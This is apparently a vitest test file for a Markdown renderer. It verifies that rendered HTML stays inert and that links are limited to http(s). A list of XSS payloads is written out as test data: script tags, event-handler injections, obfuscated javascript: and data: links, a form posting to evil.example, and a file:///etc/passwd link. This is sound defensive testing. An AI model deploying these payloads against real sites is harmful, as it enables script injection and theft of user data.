import { describe, expect, it } from 'vitest';
import { seededRandom } from '../seededRandom';
import { isSafeLink, renderMarkdown } from './markdown';

/** The elements Markdown may produce, and no others: nothing that runs, loads or submits anything. */
const ELEMENTS = new Set([
  'p',
  'br',
  'hr',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'em',
  'strong',
  's',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'a',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]);

/** Each attribute that may appear, with what its value may be. */
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^https?:\/\/[^\s/?#]+/i,
  rel: /^noopener noreferrer nofollow$/,
  target: /^_blank$/,
  class: /^language-[^\s"]*$/,
  start: /^\d+$/,
  title: /^[^"]*$/,
  style: /^text-align:(left|right|center)$/,
};

/**
 * Every tag of the output, checked against the lists above. markdown-it writes attributes as
 * `name="value"` with `"`, `<`, `>` and `&` escaped inside, so a tag is `<name attrs>` with no `>`
 * inside, and anything left outside the tags is text (a `<` there would be markup we did not write).
 */
const problemsIn = (html: string): string[] => {
  const problems: string[] = [];
  const text = html.replace(/<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/g, (tag, name: string, attributes: string) => {
    if (!ELEMENTS.has(name)) problems.push(`element ${name}`);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      const allowed = ATTRIBUTES[attribute];
      if (allowed === undefined || !allowed.test(value)) problems.push(`attribute ${attribute}="${value}" on ${name}`);
    }
    if (name === 'a' && !tag.startsWith('</') && !/href="/.test(attributes)) problems.push('a link without a target');
    return '';
  });
  if (/[<>]/.test(text)) problems.push(`markup outside the tags: ${text}`);
  return problems;
};

const safe = (source: string): string => {
  const html = renderMarkdown(source);
  expect(problemsIn(html), `${JSON.stringify(source)} → ${html}`).toEqual([]);
  return html;
};

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<svg onload=alert(1)>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name=p></form>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1) )',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/x)',
  '[click](/relative/path)',
  '[click](mailto:someone@example.com)',
  '<javascript:alert(1)>',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '[click](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  '[click](https://ok.example/"onmouseover="alert(1))',
  '![x](https://tracker.example/pixel.png)',
  '![x](javascript:alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '<!-- comment --><b>bold</b>',
  '\u0000<script>\u0000',
  '| a | b |\n|:-:|--:|\n| <script> | [x](javascript:1) |',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '* [x](https://ok.example)<img src=x onerror=alert(1)>',
  'www.example.com and https://example.org/path?q=<script>',
  'contact someone@example.com',
];

describe('renderMarkdown', () => {
  it('renders what articles use: headings, emphasis, lists, code, quotes, tables and http(s) links', () => {
    const html = safe(
      '## Steps\n\n1. Open **Settings**\n2. Tap *Reset*\n\n> Note\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[Guide](https://example.com/guide)',
    );
    expect(html).toContain('<h2>Steps</h2>');
    expect(html).toContain('<ol>\n<li>Open <strong>Settings</strong></li>\n<li>Tap <em>Reset</em></li>\n</ol>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<td>2</td>');
    expect(html).toContain('<a href="https://example.com/guide" rel="noopener noreferrer nofollow" target="_blank">Guide</a>');
    expect(safe('see http://intranet.example/wiki')).toContain('<a href="http://intranet.example/wiki"');
  });

  it('shows raw HTML as text, never as markup', () => {
    expect(safe('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n');
    expect(safe('<img src=x onerror=alert(1)>')).toBe('<p>&lt;img src=x onerror=alert(1)&gt;</p>\n');
  });

  it('leaves links to anything but http(s) as the text that was typed', () => {
    for (const source of [
      '[click](javascript:alert(1))',
      '[click](&#106;avascript:alert(1))',
      '[click](data:text/html,x)',
      '[click](//evil.example/x)',
      '<javascript:alert(1)>',
    ]) {
      expect(safe(source), source).not.toContain('<a');
    }
    expect(safe('[click](javascript:alert(1))')).toBe('<p>[click](javascript:alert(1))</p>\n');
  });

  it('loads no images: an image is a link to it, for the reader to follow or not', () => {
    const html = safe('![x](https://tracker.example/pixel.png)');
    expect(html).not.toContain('<img');
    expect(html).toBe('<p>!<a href="https://tracker.example/pixel.png" rel="noopener noreferrer nofollow" target="_blank">x</a></p>\n');
  });

  it('keeps every hostile input inert', () => {
    for (const source of HOSTILE) safe(source);
  });

  it('keeps hostile pieces inert in any combination', () => {
    const random = seededRandom(22);
    const pieces = [
      ...HOSTILE,
      '**',
      '*',
      '[',
      ']',
      '(',
      ')',
      '\n\n',
      '> ',
      '- ',
      '1. ',
      '`',
      '```',
      '<',
      '>',
      '"',
      "'",
      '&',
      '&#',
      ';',
      'https://ok.example',
      ':',
      '|',
      '\\',
    ];
    for (let i = 0; i < 500; i += 1) {
      const count = 1 + Math.floor(random() * 8);
      safe(Array.from({ length: count }, () => pieces[Math.floor(random() * pieces.length)] ?? '').join(''));
    }
  });
});

describe('isSafeLink', () => {
  it('allows http(s) to a named host only', () => {
    expect(['https://example.com', 'http://intranet/wiki', 'HTTPS://EXAMPLE.COM/x'].map(isSafeLink)).toEqual([true, true, true]);
    expect(['javascript:alert(1)', 'https:alert(1)', 'https:///x', '//example.com', '/x', 'mailto:a@b', 'data:,x', ' https://x'].map(isSafeLink)).toEqual(
      Array.from({ length: 8 }, () => false),
    );
  });
});
